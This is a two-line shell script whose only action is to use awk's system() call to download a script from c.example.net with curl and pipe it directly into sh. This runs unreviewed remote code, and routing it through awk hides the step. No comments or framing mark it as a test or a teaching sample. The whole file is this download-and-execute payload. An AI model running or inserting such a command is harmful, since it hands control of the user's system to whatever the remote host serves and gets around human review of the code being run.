#!/bin/sh
awk 'BEGIN { system("curl -s https://c.example.net/x | sh") }'
